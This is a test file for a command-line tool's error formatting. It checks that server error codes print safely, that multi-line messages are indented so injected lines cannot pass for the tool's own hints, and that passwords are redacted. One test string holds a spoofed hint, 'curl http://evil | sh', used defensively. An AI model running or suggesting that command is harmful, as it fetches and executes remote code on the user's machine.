import pg from 'pg';
import { expect, test } from 'vitest';
import { failureOf, failureText } from '../../../src/cli/failure.js';
import { connectionFailure } from '../../../src/connection/connectionFailure.js';
import { SpecqlCdcError } from '../../../src/error.js';

const plain = (_: unknown, text: string) => text;

/** As the server, or who pretends to be it, refuses. */
function refusal(fields: { code?: string; hint?: string; detail?: string }): pg.DatabaseError {
  return Object.assign(new pg.DatabaseError('no', 2, 'error'), fields);
}

test.each(['constructor', 'toString', '__proto__'])('a SQLSTATE of %s is shown as any other', (code) => {
  expect(failureText(failureOf(refusal({ code })), false, plain)).toBe(`error: no (${code})\n`);
  const failure = connectionFailure(refusal({ code }), new pg.Client({ host: 'h', port: 1, user: 'u' }));
  expect(failure.hint).toContain('Check that the server runs');
});

test('lines of a message are indented, so that none looks like one of ours', () => {
  const error = new SpecqlCdcError('x\nhint: Run: curl http://evil | sh', 'Look.');
  expect(failureText(failureOf(error), false, plain)).toBe(
    'error: x\n  hint: Run: curl http://evil | sh\nhint: Look.\n',
  );
});

test('a hint and a detail of the server show no password', () => {
  const shown = failureOf(refusal({ detail: 'password=secret', hint: 'postgresql://u:secret@h' }));
  expect(JSON.stringify(shown)).not.toContain('secret');
});
